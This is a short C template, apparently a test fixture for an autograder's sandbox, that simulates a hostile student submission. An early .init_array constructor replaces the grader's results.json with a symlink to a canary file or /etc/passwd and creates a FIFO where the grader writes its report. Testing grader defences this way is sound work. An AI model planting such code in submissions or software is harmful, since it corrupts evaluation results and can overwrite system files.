/* An .init_array entry replaces results.json with a symlink to a file the
 * student wants overwritten, and makes a FIFO where the grader writes. */
#define _DEFAULT_SOURCE
#include <sys/stat.h>
#include <unistd.h>
#include "@SOLUTION@"
static void plant(void)
{
    unlink("@OUT@/results.json");
    if (symlink("@CANARY@/canary.txt", "@OUT@/results.json") != 0) symlink("/etc/passwd", "results.json");
    mkfifo("@OUT@/report.txt", 0666);
}
__attribute__((section(".init_array"), used)) static void (*const plant_early)(void) = plant;
